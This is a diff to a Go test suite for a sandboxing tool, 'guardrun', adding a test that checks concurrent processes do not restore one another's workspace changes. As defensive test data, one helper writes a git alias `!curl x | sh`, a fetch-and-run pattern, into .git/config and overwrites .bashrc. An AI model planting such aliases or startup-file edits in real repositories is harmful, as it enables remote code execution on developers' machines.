@@ -230,8 +230,9 @@ func TestShareKilledHolder(t *testing.T) {
 	}
 }
 
-// TestShareUnprivileged runs TestShareAcrossProcesses, TestShareKilledHolder
-// and TestShareChain as an unprivileged user when the suite runs as root.
+// TestShareUnprivileged runs TestShareAcrossProcesses, TestShareKilledHolder,
+// TestShareChain and TestShareManyAtOnce as an unprivileged user when the
+// suite runs as root.
 func TestShareUnprivileged(t *testing.T) {
 	const user = "guardrun-test"
 	if os.Getenv("GUARDRUN_TEST_CHILD") != "" || os.Geteuid() != 0 {
@@ -262,11 +263,11 @@ func TestShareUnprivileged(t *testing.T) {
 	}
 	cmd := exec.Command("runuser", "-u", user, "--", "env", "GUARDRUN_TEST_CHILD=1",
 		"GUARDRUN_REQUIRE_SANDBOX="+os.Getenv("GUARDRUN_REQUIRE_SANDBOX"), "PATH=/usr/bin:/bin",
-		bin, "-test.v", "-test.count=1", "-test.run=^(TestShareAcrossProcesses|TestShareKilledHolder|TestShareChain)$")
+		bin, "-test.v", "-test.count=1", "-test.run=^(TestShareAcrossProcesses|TestShareKilledHolder|TestShareChain|TestShareManyAtOnce)$")
 	cmd.Dir = dir
 	out, err := cmd.CombinedOutput()
 	if err != nil || !strings.Contains(string(out), "--- PASS: TestShareAcrossProcesses") || !strings.Contains(string(out), "--- PASS: TestShareKilledHolder") ||
-		!strings.Contains(string(out), "--- PASS: TestShareChain") {
+		!strings.Contains(string(out), "--- PASS: TestShareChain") || !strings.Contains(string(out), "--- PASS: TestShareManyAtOnce") {
 		t.Fatalf("as %s: %v\n%s", user, err, out)
 	}
 }
@@ -491,4 +492,47 @@ func TestShareChain(t *testing.T) {
 	if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/pre-push")); !errors.Is(err, os.ErrNotExist) {
 		t.Errorf("a hook was left in .git/hooks: %v", err)
 	}
+}
+
+// TestShareManyAtOnce: while a command of one guardrun process runs
+// with its changes made, six guardrun processes start at once (their
+// snapshots taken in turn under the mutex); the first ends and
+// restores, then the six end. None restores the first one's changes,
+// and those that finished have nothing to restore.
+func TestShareManyAtOnce(t *testing.T) {
+	requireLandlock(t)
+	p := shareWorkspace(t, "")
+	ws := p.Cwd
+	endA := fifo(t, ws, "a-go")
+	a, aout := shareHelper(t, ws, `printf '[alias]\n\tst = "!curl x | sh"\n' >> .git/config && echo x > .bashrc && echo > a-changed && read x < a-go`)
+	waitLine(t, filepath.Join(ws, "a-changed"))
+	const n = 6
+	type proc struct {
+		h   *exec.Cmd
+		out *bytes.Buffer
+		end func()
+	}
+	var procs []proc
+	for i := range n {
+		end := fifo(t, ws, fmt.Sprintf("end-%d", i))
+		h, out := shareHelper(t, ws, fmt.Sprintf(`echo > started-%[1]d && read x < end-%[1]d`, i))
+		procs = append(procs, proc{h, out, end})
+	}
+	for i := range n {
+		waitLine(t, filepath.Join(ws, fmt.Sprintf("started-%d", i)))
+	}
+	endA()
+	if err := a.Wait(); err != nil {
+		t.Fatalf("the first guardrun: %v\n%s", err, aout)
+	}
+	for i, pr := range procs {
+		pr.end()
+		if err := pr.h.Wait(); err != nil {
+			t.Fatalf("guardrun %d: %v\n%s", i, err, pr.out)
+		}
+		if strings.Contains(pr.out.String(), "restored: ") {
+			t.Errorf("guardrun %d restored something:\n%s", i, pr.out)
+		}
+	}
+	checkUntouched(t, ws)
 }
